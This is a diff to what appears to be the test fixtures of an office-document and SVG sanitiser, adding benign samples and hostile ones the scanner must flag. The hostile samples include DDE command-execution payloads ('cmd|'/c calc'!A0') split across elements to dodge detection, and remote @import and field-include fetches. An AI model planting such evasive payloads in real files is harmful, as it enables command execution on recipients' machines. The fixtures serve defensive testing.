@@ -16,6 +16,7 @@ TEXT, TABLE = (f"application/vnd.oasis.opendocument.{kind}" for kind in ("text",
 _OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 _W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
 _S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+_M = 'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"'
 _URN = "urn:oasis:names:tc:opendocument:xmlns"
 _ODF = " ".join(
     f'xmlns:{prefix}="{_URN}:{name}:1.0"'
@@ -74,6 +75,12 @@ def _field(*instructions: str) -> str:
     return f'<w:p><w:r>{_BEGUN}</w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
 
 
+def _chosen(*instructions: str) -> str:
+    """A field that a reader who passes over what it does not know puts together."""
+    choice = f'<c:Choice xmlns:c="http://x" Requires="q">{_BEGUN}</c:Choice>'
+    return _BEGUN + choice.join(f"<w:instrText>{each}</w:instrText>" for each in instructions)
+
+
 def _xlsx(cell: str = "<v>1</v>", parts: Mapping[str, bytes | str] | None = None) -> bytes:
     book = {
         **{name: WORD[name] for name in ("[Content_Types].xml", "_rels/.rels")},
@@ -112,6 +119,8 @@ GOOD: Mapping[str, tuple[bytes, str]] = {
         ),
         WORDX,
     ),
+    "names.docx": (_docx(_field(' XE "Hidde de Vries" ', ' XE "Fedde Bakker" ')), WORDX),
+    "sum.docx": (_docx(f"<m:oMath {_M}><m:f><m:num>1</m:num><m:den>2</m:den></m:f></m:oMath>"), WORDX),
     "signed.docx": (
         _docx("", {"_xmlsignatures/origin.sigs": "", "_xmlsignatures/sig1.xml": "<Signature/>"}),
         WORDX,
@@ -180,6 +189,7 @@ _DRAWINGS = {
     "event": '<svg onload="alert(1)"/>',
     "fetched": '<svg><image href="https://example.nl/x.png"/></svg>',
     "style": "<svg><style>@import 'https://example.nl/x.css';</style></svg>",
+    "style-in-two": "<svg><style>@import 'https://example.nl/x.css';<style/></style></svg>",
     "entities": f"<!DOCTYPE svg SYSTEM 'https://example.nl/x.dtd'>{_LOGO}",
 }
 _RELATED = {
@@ -203,12 +213,8 @@ _BODIES = {
     "field-of-a-text": _field(' INCLUDETEXT "https://example.nl/x.docx" '),
     "field-of-a-picture": _field(" INCLUDE", 'PICTURE "https://example.nl/x.png" \\d '),
     "field-of-a-link": _field(r' LINK Excel.Sheet.8 "\\\\example.nl\\x.xls" \a '),
-    "field-in-two-by-a-choice": (
-        _BEGUN
-        + "<w:instrText>DD</w:instrText>"
-        + f'<c:Choice xmlns:c="http://x" Requires="q">{_BEGUN}</c:Choice>'
-        + f"<w:instrText>E {_DDE}</w:instrText>"
-    ),
+    "field-in-two-by-a-choice": _chosen("DD", f"E {_DDE}"),
+    "field-in-two-behind-a-number": _field("PAGE") + _chosen("D", f"DE {_DDE}"),
     "field-in-two-by-an-element": f"<w:instrText>DDE<f/>AUTO {_DDE}</w:instrText>",
     "chunk": "<w:altChunk/>",
     "chunk-without-a-prefix": f"<altChunk {_W.replace(':w', '')}/>",
@@ -268,6 +274,7 @@ BAD: Mapping[str, tuple[bytes, str]] = {
     "share.xlsx": (_xlsx(parts={"xl/c.xml": r'<textPr sourceFile="\\example.nl\x.csv"/>'}), "active"),
     "service.xlsx": (_xlsx('<f>_xlfn.WEBSERVICE("https://example.nl/"&amp;A2)</f>'), "active"),
     "picture.xlsx": (_xlsx("<f>'\"'!A1&amp;_xlfn.IMAGE(A1)&amp;'\"'!A1</f>"), "active"),
+    "dde-in-two.xlsx": (_xlsx("<formula1>cmd|'/c <m:f xmlns:m='http://x'/>calc'!A0</formula1>"), "active"),
     "dde.xlsx": (_xlsx("<f>cmd|'/c calc'!A0</f>"), "active"),
     "program.pptx": (
         _docx("", {"ppt/slides/slide1.xml": '<hlinkMouseOver action="ppaction://program"/>'}),
